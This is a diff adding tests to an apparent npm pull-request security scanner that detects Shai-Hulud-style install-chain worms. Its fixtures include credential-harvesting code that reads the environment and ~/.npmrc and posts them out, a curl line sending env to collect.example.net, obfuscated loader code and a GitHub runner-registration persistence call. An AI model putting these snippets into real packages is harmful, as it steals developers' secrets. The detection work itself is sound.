@@ -280,6 +280,47 @@ module.exports = { hooks: { readPackage } };
     expect(buildFinding(change('package.json', pkg({}), pkg({ scripts: { build: 'node scripts/setup.js' } })), added('scripts/setup.js', script))).toBeNull();
   });
 
+  it('reads the second hop of an install chain: a file of the PR that the install script\'s file starts (Shai-Hulud 2.0)', () => {
+    const preinstall = change('package.json', pkg({}), pkg({ scripts: { preinstall: 'node setup_bun.js' } }));
+    const setup = added('setup_bun.js', "const { spawn, execSync } = require('child_process');\nconst path = require('path');\nconst bun = process.env.BUN_PATH || 'bun';\nspawn(bun, [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();");
+    const harvest = "const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nfetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify(data) });";
+    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
+    expect(found(preinstall, setup, added('bun_environment.js', harvest))).toEqual([
+      ['bun_environment.js', 'critical', 'preinstall script of package.json (through setup_bun.js) sends credentials or the environment to a host at npm install time'],
+    ]);
+    // A command string (`bun x.js`, `node lib/x.js`), a shell script's own command, and a module the PR adds that the file loads.
+    expect(found(preinstall, added('setup_bun.js', "require('child_process').execSync('bun run stage/next.js');"), added('stage/next.js', harvest))).toEqual([['stage/next.js', 'critical', expect.any(String)]]);
+    const viaShell = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'sh scripts/install.sh' } }));
+    expect(found(viaShell, added('scripts/install.sh', 'set -e\n./tools/fetch.sh'), added('scripts/tools/fetch.sh', 'curl -s -d "$(env)" https://collect.example.net/in'))).toEqual([['scripts/tools/fetch.sh', 'critical', expect.any(String)]]);
+    expect(found(preinstall, added('setup_bun.js', "require('./lib/payload');"), added('lib/payload.js', harvest))).toEqual([['lib/payload.js', 'critical', expect.any(String)]]);
+    // The obfuscator's output, in a build-output folder, is read as the first hop's is.
+    const obfuscated = "const _0x3a1f=['\\x72\\x65\\x71'];(function(_0x1b2c,_0x2d4e){const _0x3c5a=function(_0x4e7b){while(--_0x4e7b){_0x1b2c['push'](_0x1b2c['shift']());}};_0x3c5a(++_0x2d4e);}(_0x3a1f,0x1b3));";
+    expect(analyze(snapshotOf(preinstall, setup, added('dist/bun_environment.js', obfuscated))).findings.filter((f) => f.id === 'obfuscated-code').map((f) => [f.path, f.severity])).toEqual([['dist/bun_environment.js', 'high']]);
+  });
+
+  it('raises a worm\'s or a stealer\'s medium shape to high in a file the install chain runs, and says so; elsewhere it stays medium', () => {
+    const register = "const { data } = await octokit.rest.actions.createRegistrationTokenForRepo({ owner, repo });";
+    const persistence = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'github-persistence').map((f) => [f.path, f.severity, f.detail.includes('at npm install time')]);
+    const preinstall = change('package.json', pkg({}), pkg({ scripts: { preinstall: 'node setup.js' } }));
+    expect(persistence(preinstall, added('setup.js', "require('child_process').spawn('node', ['src/runner.js'], { detached: true });"), added('src/runner.js', register))).toEqual([['src/runner.js', 'high', true]]);
+    expect(persistence(preinstall, added('setup.js', register))).toEqual([['setup.js', 'high', true]]);
+    expect(persistence(change('package.json', pkg({}), pkg({ scripts: { build: 'node setup.js' } })), added('setup.js', register))).toEqual([['setup.js', 'medium', false]]);
+  });
+
+  it('leaves files the install script\'s file does not start alone: messages, the package\'s own library it loads, a binary it downloaded, a file of no install chain', () => {
+    const postinstall = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/postinstall.js' } }));
+    const send = "fetch('https://api.acme.dev/v1/usage', { method: 'POST', body: JSON.stringify({ token: process.env.ACME_TOKEN }) });";
+    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior').map((f) => f.path);
+    // A message naming a command for a person.
+    expect(found(postinstall, added('scripts/postinstall.js', "console.log('Run `node scripts/login.js` to sign in.');"), added('scripts/login.js', send))).toEqual([]);
+    // The package's library, changed (not added) by the PR, that the install script requires.
+    const lib = makeFile('lib/client.js', { status: 'modified', additions: 1, patch: `@@ -1,1 +1,2 @@\n module.exports = {};\n+${send}` });
+    expect(found(postinstall, added('scripts/postinstall.js', "const { version } = require('../lib/client.js');"), lib)).toEqual([]);
+    // A downloaded binary run (no file of the PR), and the same files with no install script.
+    expect(found(postinstall, added('scripts/postinstall.js', "const bin = require('path').join(__dirname, '..', 'bin', 'tool');\nrequire('child_process').execFileSync(bin, ['--version']);"))).toEqual([]);
+    expect(found(change('package.json', pkg({}), pkg({ scripts: { build: 'node setup_bun.js' } })), added('setup_bun.js', "require('child_process').execSync('bun bun_environment.js');"), added('bun_environment.js', send))).toEqual([]);
+  });
+
   it('reads the entry of a VS Code extension the PR makes start with the editor, on a ladder where talking to its service is ordinary', () => {
     const manifest = (activationEvents: string[], main = './out/extension.js') => `${JSON.stringify({ name: 'tidy', publisher: 'acme', engines: { vscode: '^1.90.0' }, main, activationEvents }, null, 2)}\n`;
     const toStartup = change('package.json', manifest(['onCommand:tidy.run']), manifest(['onStartupFinished']));
